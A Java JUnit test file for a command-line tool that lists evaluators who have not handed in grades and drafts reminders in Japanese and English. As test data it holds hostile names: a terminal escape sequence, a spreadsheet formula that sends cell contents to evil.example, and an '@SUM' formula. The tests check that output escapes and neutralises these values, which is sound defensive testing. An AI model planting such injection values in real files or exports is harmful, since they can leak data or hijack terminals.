package jp.clustereval.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;

/**
 * {@code missing}: of a roster with one evaluator who handed nothing in, one partial, one complete and
 * a chair, the table, CSV and JSON list the first two (exit 0), the reminders name the round and the
 * units in Japanese and in English, hostile names reach neither the terminal nor a CSV cell unescaped,
 * and a round where nobody is missing says so.
 */
class MissingCliTest {

    private static final String[] ITEMS = {"1.1", "1.2.1", "1.2.2", "1.3", "2.1", "2.2", "2.3", "3", "4"};
    /** A name that retitles a terminal and then rings its bell, and one a spreadsheet would run. */
    static final String ESCAPE_NAME = "Eve\u001B]0;pwned\u0007 Evil";
    static final String FORMULA_NAME = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";

    @TempDir
    Path dir;

    private CliRun run(String... args) {
        String[] all = new String[args.length + 2];
        all[0] = "--db";
        all[1] = dir.resolve("chair.db").toString();
        System.arraycopy(args, 0, all, 2, args.length);
        return CliRun.of(all);
    }

    private CliRun ok(String... args) {
        CliRun r = run(args);
        assertEquals(Cli.OK, r.exit(), r::toString);
        return r;
    }

    private void gradeAll(String who, String unit) {
        for (String item : ITEMS) {
            ok("grade", "--evaluator", who, "--cluster", unit, "--item", item, "--grade", "A");
        }
    }

    private void panel(String noneName, String partialName) {
        ok("evaluator", "add", "--name", noneName, "--affiliation", "Tohoku Univ.");
        ok("evaluator", "add", "--name", partialName, "--affiliation", "@SUM(A1)");
        ok("evaluator", "add", "--name", "Suzuki Taro", "--affiliation", "Kyushu Univ.");
        ok("evaluator", "add", "--name", "Sato Chair", "--affiliation", "MEXT");
        ok("roster", "add", "--round", "mid-fy2004", "--evaluator", noneName, "--role", "evaluator", "--email", "jiro@example.jp");
        ok("roster", "add", "--round", "mid-fy2004", "--evaluator", partialName, "--role", "evaluator");
        ok("roster", "add", "--round", "mid-fy2004", "--evaluator", "Suzuki Taro", "--role", "evaluator", "--email", "taro@example.jp");
        ok("roster", "add", "--round", "mid-fy2004", "--evaluator", "Sato Chair", "--role", "chair", "--email", "chair@example.jp");
        ok("assign", "--round", "mid-fy2004", "--evaluator", noneName, "--clusters", "SAP,SEN");
        ok("assign", "--round", "mid-fy2004", "--evaluator", partialName, "--clusters", "SAP,SEN,KYO");
        ok("assign", "--round", "mid-fy2004", "--evaluator", "Suzuki Taro", "--clusters", "SAP");
        gradeAll(partialName, "SAP");
        ok("grade", "--evaluator", partialName, "--cluster", "SEN", "--item", "1.1", "--grade", "S");
        gradeAll("Suzuki Taro", "SAP");
    }

    private static List<CSVRecord> csv(String text) throws Exception {
        return CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(text.replace("\uFEFF", ""))).getRecords();
    }

    @Test
    void listsWhoHandedNothingInAndWhoIsPartialInEveryFormat() throws Exception {
        panel("Late Jiro", "Yamada Hanako");

        CliRun table = ok("missing", "--round", "mid-fy2004");
        List<String> lines = table.out().lines().toList();
        assertEquals(3, lines.size(), table::toString);
        assertTrue(lines.get(0).matches("evaluator +name +affiliation +email +state +missing +partial"), lines.get(0));
        assertTrue(lines.get(1).matches("[0-9a-f-]{36}  Late Jiro +Tohoku Univ\\. +jiro@example\\.jp +none +SAP SEN"), lines.get(1));
        assertTrue(lines.get(2).matches("[0-9a-f-]{36}  Yamada Hanako +@SUM\\(A1\\) +partial +KYO +SEN"), lines.get(2));
        assertFalse(table.out().contains("Suzuki Taro") || table.out().contains("Sato Chair"), table::toString);

        List<CSVRecord> rows = csv(ok("missing", "--format", "csv").out());
        assertEquals(2, rows.size());
        assertEquals("Late Jiro", rows.get(0).get("name"));
        assertEquals("jiro@example.jp", rows.get(0).get("email"));
        assertEquals("none", rows.get(0).get("state"));
        assertEquals("SAP SEN", rows.get(0).get("missing"));
        assertEquals("", rows.get(0).get("partial"));
        assertEquals("Yamada Hanako", rows.get(1).get("name"));
        assertEquals("'@SUM(A1)", rows.get(1).get("affiliation"), "a formula cell neutralised");
        assertEquals("", rows.get(1).get("email"));
        assertEquals("partial", rows.get(1).get("state"));
        assertEquals("KYO", rows.get(1).get("missing"));
        assertEquals("SEN", rows.get(1).get("partial"));

        JsonNode json = new ObjectMapper().readTree(ok("missing", "--format", "json").out());
        assertEquals(2, json.size());
        assertEquals("Late Jiro", json.get(0).get("name").asText());
        assertEquals("Tohoku Univ.", json.get(0).get("affiliation").asText());
        assertEquals("none", json.get(0).get("state").asText());
        assertEquals("@SUM(A1)", json.get(1).get("affiliation").asText(), "JSON is data: the text as it is");
        assertEquals("SEN", json.get(1).get("partial").asText());

        Path file = dir.resolve("missing.csv");
        ok("missing", "--format", "json", "--out", file.toString());
        String written = Files.readString(file, StandardCharsets.UTF_8);
        assertTrue(written.startsWith("\uFEFFevaluator,name,affiliation,email,state,missing,partial\n"), written);
        assertEquals(2, csv(written).size());
    }

    @Test
    void theRemindersNameTheRoundAndTheUnitsInBothLanguages() {
        panel("Late Jiro", "Yamada Hanako");
        String en = ok("missing", "--reminder", "--lang", "en").out();
        assertTrue(en.startsWith("To: Late Jiro <jiro@example.jp>\nSubject: Reminder: your grades for \"Mid-term evaluation FY2004\"\n"), en);
        assertTrue(en.contains("Dear Late Jiro,\n"), en);
        assertTrue(en.contains("we have not received any grades from you yet"), en);
        assertTrue(en.contains("\n  - SAP Sapporo"), en);
        assertTrue(en.contains("To: Yamada Hanako\n"), en);
        assertTrue(en.contains("\n  - SEN Sendai"), en);
        assertTrue(en.contains(": 1 of 9 items graded\n"), en);
        assertTrue(en.contains("\n  - KYO Kyoto"), en);
        assertFalse(en.contains("Suzuki Taro") || en.contains("Sato Chair"), en);

        String ja = ok("missing", "--reminder", "--lang", "ja").out();
        assertTrue(ja.startsWith("宛先: Late Jiro 様 <jiro@example.jp>\n件名: 「"), ja);
        assertTrue(ja.contains("」の評価ご提出のお願い\n"), ja);
        assertTrue(ja.contains("まだ評価をお受け取りしておりません"), ja);
        assertTrue(ja.contains("評価がまだ完了しておりません"), ja);
        assertTrue(ja.contains(": 9 項目中 1 項目評価済み\n"), ja);
        assertTrue(ja.contains("  ・KYO "), ja);
        assertEquals(ja, ok("missing", "--reminder").out(), "Japanese by default");
    }

    @Test
    void hostileNamesAreEscapedOnTheTerminalAndNeutralisedInCsv() throws Exception {
        panel(ESCAPE_NAME, FORMULA_NAME);
        for (String[] args : List.of(new String[] {"missing"}, new String[] {"missing", "--reminder", "--lang", "en"},
                new String[] {"missing", "--reminder"})) {
            CliRun r = ok(args);
            HostileTextCliTest.assertShowsNothingATerminalActsOn(r);
            assertTrue(r.out().contains("Eve\\u001B]0;pwned\\u0007 Evil"), r::toString);
        }
        assertEquals(3, ok("missing").out().lines().count(), "one line per row");
        String text = ok("missing", "--format", "csv").out();
        List<CSVRecord> rows = csv(text);
        assertEquals("'" + FORMULA_NAME, rows.get(1).get("name"));
        assertEquals(ESCAPE_NAME, rows.get(0).get("name"), "CSV keeps the text; only formula cells are neutralised");
        Path file = dir.resolve("missing.csv");
        ok("missing", "--out", file.toString());
        assertEquals("'" + FORMULA_NAME, csv(Files.readString(file, StandardCharsets.UTF_8)).get(1).get("name"));
    }

    @Test
    void nobodyMissingIsSaidAndExitsZero() throws Exception {
        panel("Late Jiro", "Yamada Hanako");
        gradeAll("Late Jiro", "SAP");
        gradeAll("Late Jiro", "SEN");
        gradeAll("Yamada Hanako", "SEN");
        gradeAll("Yamada Hanako", "KYO");
        assertEquals("Nobody is missing in round mid-fy2004: every rostered evaluator's units are graded.\n",
                ok("missing").out());
        assertEquals("Nobody is missing in round mid-fy2004: every rostered evaluator's units are graded.\n",
                ok("missing", "--reminder", "--lang", "en").out());
        assertEquals("evaluator,name,affiliation,email,state,missing,partial\n", ok("missing", "--format", "csv").out());
        assertEquals(0, new ObjectMapper().readTree(ok("missing", "--format", "json").out()).size());
    }

    @Test
    void anUnknownRoundIsRefused() {
        CliRun r = run("missing", "--round", "no-such-round");
        assertEquals(1, r.exit(), r::toString);
        assertTrue(r.err().contains("no-such-round"), r::toString);
    }
}
